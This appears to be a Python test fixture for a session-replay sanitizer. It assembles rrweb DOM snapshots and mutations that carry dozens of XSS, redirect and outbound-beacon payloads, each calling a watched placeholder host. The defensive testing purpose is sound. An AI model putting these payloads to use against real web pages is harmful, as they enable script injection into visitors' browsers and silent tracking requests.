"""Hostile recordings: payloads that would run script, navigate or call out if a replay let them.

Each payload is a piece of rrweb-snapshot DOM (what any client can send to ingest). Every
script payload reports to `sink` (a URL on a server the test watches) and to the top
window, so "nothing executed" is observable. `SINK` is replaced by the sink's base URL.
"""

from __future__ import annotations

import itertools
from typing import Any

JS = "top.__xss=(top.__xss||0)+1;fetch('SINK/js')"
_ids = itertools.count(100)


def el(tag: str, attributes: dict[str, Any] | None = None, children: list[dict[str, Any]] | None = None,
       svg: bool = False) -> dict[str, Any]:
    node: dict[str, Any] = {"type": 2, "tagName": tag, "attributes": attributes or {}, "childNodes": children or [],
                            "id": next(_ids)}
    if svg:
        node["isSVG"] = True
    return node


def text(value: str) -> dict[str, Any]:
    return {"type": 3, "textContent": value, "id": next(_ids)}


def corpus() -> list[tuple[str, dict[str, Any]]]:
    """(name, node) for the body of a recorded page; at least 50 of them."""
    u = "SINK"
    items: list[tuple[str, dict[str, Any]]] = [
        ("img onerror", el("img", {"src": "x", "onerror": JS})),
        ("img onload", el("img", {"src": "data:image/gif;base64,R0lGODlhAQABAAAAACw=", "onload": JS})),
        ("svg onload", el("svg", {"onload": JS}, svg=True)),
        ("details ontoggle", el("details", {"open": "", "ontoggle": JS})),
        ("input autofocus onfocus", el("input", {"autofocus": "", "onfocus": JS})),
        ("video onerror", el("video", {"src": "x", "onerror": JS})),
        ("audio onerror", el("audio", {"src": "x", "onerror": JS})),
        ("marquee onstart", el("marquee", {"onstart": JS})),
        ("div onanimationstart", el("div", {"style": "animation: spin 1s", "onanimationstart": JS})),
        ("div onmouseover", el("div", {"onmouseover": JS, "style": "width:100%;height:100px"})),
        ("body-like onpageshow", el("div", {"onpageshow": JS})),
        ("mixed-case OnErRoR", el("img", {"src": "x", "OnErRoR": JS})),
        ("onpointerenter", el("span", {"onpointerenter": JS})),
        ("iframe javascript: src", el("iframe", {"src": f"javascript:{JS}"})),
        ("iframe srcdoc", el("iframe", {"srcdoc": f"<script>{JS}</script>"})),
        ("iframe data:text/html", el("iframe", {"src": f"data:text/html,<script>{JS}</script>"})),
        ("iframe data: base64", el("iframe", {"src": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="})),
        ("iframe sink src", el("iframe", {"src": f"{u}/iframe"})),
        ("frame javascript:", el("frame", {"src": f"javascript:{JS}"})),
        ("a javascript: href", el("a", {"href": f"javascript:{JS}"}, [text("click")])),
        ("a tab-split scheme", el("a", {"href": f"java\tscript:{JS}"}, [text("click")])),
        ("a newline and spaces", el("a", {"href": f"  \njavascript:{JS}"}, [text("click")])),
        ("a mixed case", el("a", {"href": f"JaVaScRiPt:{JS}"}, [text("click")])),
        ("a vbscript:", el("a", {"href": "vbscript:msgbox(1)"}, [text("click")])),
        ("a ping sink", el("a", {"href": "#", "ping": f"{u}/ping"}, [text("ping")])),
        ("form javascript: action", el("form", {"action": f"javascript:{JS}"}, [el("button", {}, [text("go")])])),
        ("button formaction", el("button", {"formaction": f"javascript:{JS}"}, [text("go")])),
        ("object data:text/html", el("object", {"data": f"data:text/html,<script>{JS}</script>"})),
        ("object sink data", el("object", {"data": f"{u}/object"})),
        ("embed sink src", el("embed", {"src": f"{u}/embed"})),
        ("embed javascript:", el("embed", {"src": f"javascript:{JS}"})),
        ("applet code", el("applet", {"code": "Evil.class", "codebase": f"{u}/applet"})),
        ("meta refresh", el("meta", {"http-equiv": "refresh", "content": f"0;url={u}/refresh"})),
        ("meta refresh javascript:", el("meta", {"http-equiv": "refresh", "content": f"0;url=javascript:{JS}"})),
        ("base href then relative img", el("div", {}, [el("base", {"href": f"{u}/base/"}), el("img", {"src": "rel.png"})])),
        ("script with real code", el("script", {}, [text(JS)])),
        ("script src sink", el("script", {"src": f"{u}/script.js"})),
        ("svg script", el("svg", {}, [el("script", {}, [text(JS)], svg=True)], svg=True)),
        ("svg a xlink:href javascript:", el("svg", {}, [el("a", {"xlink:href": f"javascript:{JS}"}, [], svg=True)], svg=True)),
        ("svg animate to javascript:", el("svg", {}, [el("a", {}, [el("animate", {"attributeName": "href", "to": f"javascript:{JS}"}, svg=True)], svg=True)], svg=True)),
        ("svg set onload", el("svg", {}, [el("set", {"attributeName": "onload", "to": JS}, svg=True)], svg=True)),
        ("svg use data:", el("svg", {}, [el("use", {"href": "data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"}, svg=True)], svg=True)),
        ("svg foreignObject iframe", el("svg", {}, [el("foreignObject", {}, [el("iframe", {"srcdoc": f"<script>{JS}</script>"})], svg=True)], svg=True)),
        ("math href javascript:", el("math", {"href": f"javascript:{JS}"}, [text("m")])),
        ("link stylesheet sink", el("link", {"rel": "stylesheet", "href": f"{u}/style.css"})),
        ("link prefetch sink", el("link", {"rel": "prefetch", "href": f"{u}/prefetch"})),
        ("link preload script", el("link", {"rel": "preload", "as": "script", "href": f"{u}/preload.js"})),
        ("style @import beacon", el("style", {}, [text(f"@import url('{u}/import.css');")])),
        ("style url() beacon", el("div", {"style": f"background-image: url('{u}/bg.png'); width: 10px; height: 10px"})),
        ("style @font-face beacon", el("style", {}, [text(f"@font-face {{ font-family: x; src: url('{u}/font.woff'); }} p {{ font-family: x }}")])),
        ("img sink src", el("img", {"src": f"{u}/img.png"})),
        ("img srcset sink", el("img", {"srcset": f"{u}/srcset.png 1x"})),
        ("picture source sink", el("picture", {}, [el("source", {"srcset": f"{u}/source.png"}), el("img", {"src": "x"})])),
        ("video poster sink", el("video", {"poster": f"{u}/poster.png"})),
        ("input type=image sink", el("input", {"type": "image", "src": f"{u}/input.png"})),
        ("table background sink", el("table", {"background": f"{u}/table.png"})),
        ("noscript payload", el("noscript", {}, [el("img", {"src": "x", "onerror": JS})])),
        ("template payload", el("template", {}, [el("img", {"src": "x", "onerror": JS})])),
        ("title breakout text", text(f"</title><img src=x onerror=\"{JS}\">")),
        ("textarea breakout text", el("textarea", {}, [text(f"</textarea><script>{JS}</script>")])),
        ("entity-ish scheme", el("a", {"href": f"java&#x09;script:{JS}"}, [text("x")])),
    ]
    return items


def mutations(target_id: int) -> list[dict[str, Any]]:
    """Incremental payloads: nodes added and attributes changed after the snapshot."""
    return [
        {"source": 0, "texts": [], "removes": [], "attributes": [],
         "adds": [{"parentId": target_id, "nextId": None, "node": el("img", {"src": "x", "onerror": JS})}]},
        {"source": 0, "texts": [], "removes": [], "adds": [],
         "attributes": [{"id": target_id, "attributes": {"onclick": JS, "style": {"color": "red"}}}]},
        {"source": 0, "texts": [], "removes": [], "adds": [],
         "attributes": [{"id": target_id, "attributes": {"href": f"javascript:{JS}"}}]},
        {"source": 0, "texts": [], "removes": [], "attributes": [],
         "adds": [{"parentId": target_id, "nextId": None,
                   "node": el("meta", {"http-equiv": "refresh", "content": "0;url=SINK/late-refresh"})}]},
    ]


def page_snapshot(body_children: list[dict[str, Any]], at: int) -> tuple[dict[str, Any], int]:
    """A FullSnapshot event of a page whose body holds `body_children`; and the body's node id."""
    body = el("body", {}, body_children)
    html = el("html", {}, [el("head", {}, [el("title", {}, [text("Corpus")])]), body])
    doc = {"type": 0, "childNodes": [{"type": 1, "name": "html", "publicId": "", "systemId": "", "id": 2}, html], "id": 1}
    return {"type": 2, "timestamp": at, "data": {"node": doc, "initialOffset": {"left": 0, "top": 0}}}, body["id"]


def with_sink(value: Any, sink: str) -> Any:
    """The structure with every SINK placeholder replaced by the sink's URL."""
    if isinstance(value, str):
        return value.replace("SINK", sink)
    if isinstance(value, list):
        return [with_sink(v, sink) for v in value]
    if isinstance(value, dict):
        return {k: with_sink(v, sink) for k, v in value.items()}
    return value
